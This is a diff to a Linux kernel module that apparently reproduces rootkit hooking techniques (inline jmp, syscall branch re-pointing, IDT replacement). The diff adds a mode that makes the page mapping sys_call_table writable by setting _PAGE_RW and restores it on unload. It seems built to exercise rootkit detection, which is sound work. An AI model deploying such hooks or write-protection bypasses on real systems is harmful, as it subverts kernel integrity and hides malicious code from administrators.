@@ -11,6 +11,7 @@
  *   mode=inline     a 5-byte jmp over the fentry NOP of __x64_sys_kexec_load (KHOOK)
  *   mode=syscall    the branch to __x64_sys_kexec_load inside x64_sys_call re-pointed
  *   mode=idt        a copy of the IDT with vector VECTOR re-pointed, loaded with lidt
+ *   mode=rw         the page table entry mapping sys_call_table made writable
  *
  * orphan=1 copies the handler into fresh executable module-area memory, points the
  * hook there and fails its init, so the kernel frees the module: the hook runs code
@@ -109,6 +110,7 @@ static unsigned int rk_nf(void *priv, struct sk_buff *skb, const struct nf_hook_
 
 static struct rk_state rk;
 static struct desc_ptr saved_idtr;
+static pte_t *made_rw;
 static gate_desc *idt_copy;
 static void *code;
 static u8 saved[5];
@@ -252,6 +254,15 @@ static int __init rk_init(void)
 		idtr.address = (unsigned long)idt_copy;
 		idtr.size = saved_idtr.size;
 		load_idt(&idtr);
+	} else if (!strcmp(mode, "rw")) {
+		/* What rootkits do instead of clearing CR0.WP: set RW in the entry that maps
+		 * the table (a 2 MiB or 4 KiB mapping; lookup_address gives either). */
+		unsigned int level;
+
+		made_rw = lookup_address(lookup("sys_call_table"), &level);
+		if (!made_rw)
+			return -ENOENT;
+		made_rw->pte |= _PAGE_RW;
 	} else {
 		err = -EINVAL;
 	}
@@ -267,6 +278,8 @@ static void __exit rk_exit(void)
 	void (*memfree)(void *) = (void *)(lookup("module_memfree") ?: lookup("execmem_free"));
 
 	unhook(&rk);
+	if (made_rw)
+		made_rw->pte &= ~_PAGE_RW;
 	if (idt_copy) {
 		load_idt(&saved_idtr);
 		free_page((unsigned long)idt_copy);
